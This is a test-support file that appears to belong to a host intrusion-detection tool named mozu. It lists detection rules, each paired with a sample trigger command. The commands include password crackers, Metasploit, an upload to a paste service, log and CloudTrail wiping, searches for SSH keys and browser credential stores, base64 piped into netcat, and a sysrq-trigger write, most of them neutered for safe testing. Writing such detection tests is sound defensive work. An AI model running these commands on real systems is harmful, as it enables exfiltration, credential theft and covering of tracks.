"""Triggers of mozu's own rules on the host about intruders' tools and about what intruders look for, pack and send."""

import re
from typing import Final

from tests.support.triggers import Trigger

INTRUSIONS_NAMED: Final = (
    ("Tool that breaks or gathers passwords started", "hydra -l root x"),
    ("Tool that looks for ways to root started", "pspy64"),
    ("Framework of intruders started", "msfconsole -q"),
    ("Unit of systemd started from a public place", "systemctl link /tmp/perch.service"),
    ("File sent to a service for messages or pastes", "curl -T x https://0x0.st"),
    ("Journal emptied by a command", "journalctl --vacuum-time=1s"),
    ("Capability that makes root given to a file", "setcap cap_setuid=ep x"),
    ("Keys searched for on the whole machine", "find / -name id_rsa"),
    ("Logs of a cloud switched off", "aws cloudtrail stop-logging"),
    ("Password handed to a login by a program", "sshpass -e x"),
    ("Connections led through a proxy on this machine", "torsocks x"),
    ("Old client of the network used", "telnet 198.51.100.1 8081"),
    ("Files in a public place copied to or from another machine", "scp /tmp/x perch:/srv"),
    ("Archive made of homes, logs or settings, or in a public place", "zip /tmp/x.zip x"),
    ("File cut into pieces", "split -b 9 /tmp/x"),
    ("Keys or movements of an input device read", "xinput test 9"),
    ("Clock of the machine set by hand", "date 010100001971"),
    ("Firewall changed by hand", "ufw allow 4444"),
    ("Guards of the machine looked for", "pgrep -l auditd"),
    ("Directory or shares of a network looked over", "ldapsearch -x"),
    ("Stores of browsers searched for", "find / -name logins.json"),
    ("Facts about the machine read by a tool", "date -u"),
    ("Accounts of a directory changed by a tool", "ldapadd -f x"),
    ("Account of a cloud changed by a command", "aws iam create-user"),
    ("Browser given an extension from a directory", "chromium --load-extension=x"),
    ("Program packed so that it looks like another", "upx -9 x"),
)
"""Rules, each with a command whose name and arguments are enough."""


def _copied(rule: str, name: str, act: str, by: str = "") -> Trigger:
    """Return a trigger in which a program of this name does nothing."""
    return Trigger(rule, by or name, f"cp /bin/true $TMP/{name}; {act}; true")


INTRUSIONS: Final = (
    Trigger(
        "Program with the name of a service in a public place",
        "crond",
        "cp /bin/true /tmp/crond; /tmp/crond; rm /tmp/crond",
        {"proc.exepath": "/tmp/crond"},
    ),
    Trigger(
        "Hidden code run by an argument of an interpreter",
        "python3",
        ("$PYTHON", "-c", "import base64; exec(base64.b64decode(''))"),
    ),
    Trigger(
        "Shell started by code on a command line",
        re.compile("^(da)?sh$"),
        ("$PYTHON", "-c", "import subprocess\nsubprocess.run(['sh'])"),
    ),
    Trigger(
        "Shell told to start a shell",
        re.compile("^(da)?sh$"),
        ("find", "$TMP", "-maxdepth", "0", "-exec", "sh", "-c", "sh", ";"),
        {"proc.pname": "find"},
    ),
    _copied("busybox called for a shell or the network", "busybox", "$TMP/busybox wget x"),
    _copied(
        "Findings about the machine kept in a public place",
        "whoami",
        "$TMP/whoami > /tmp/mozu-perch; rm /tmp/mozu-perch",
    ),
    Trigger(
        "Code on a command line names accounts, keys or histories",
        "python3",
        ("$PYTHON", "-c", "'/etc/passwd'"),
    ),
    Trigger(
        "Packed or encoded data piped into a connection",
        re.compile("^(nc|base64)$"),
        "cp /bin/true $TMP/nc; base64 /dev/null | $TMP/nc perch 1; true",
    ),
    _copied("Hardware read for signs of a virtual machine", "grep", "true | $TMP/grep qemu"),
    _copied("Ping used as a clock", "ping", "$TMP/ping -c 250 x > /dev/null"),
    Trigger(
        "Machine told by the kernel to stop",
        "python3",
        (
            *("$PYTHON", "-c"),
            "import os\nos.makedirs('$TMP/stopped/proc', exist_ok=True)\n"
            "os.chroot('$TMP/stopped')\n"
            "open('/proc/sysrq-trigger', 'w')",
        ),
        {"fd.name": "/proc/sysrq-trigger"},
    ),
    Trigger(
        "Rules of passwords or of sudo read by a tool",
        "cat",
        (
            "unshare",
            "--mount",
            "sh",
            "-c",
            "mkdir $TMP/rules; mount --bind $TMP/rules /etc && : > /etc/login.defs && cat /etc/login.defs; true",
        ),
        {"fd.name": "/etc/login.defs"},
    ),
    Trigger(
        "Service asked who it is",
        "whoami",
        (
            "sh",
            "-c",
            "echo 4294967295 > /proc/self/loginuid; setpriv --reuid=33 --clear-groups sh -c 'whoami; true'; true",
        ),
    ),
)
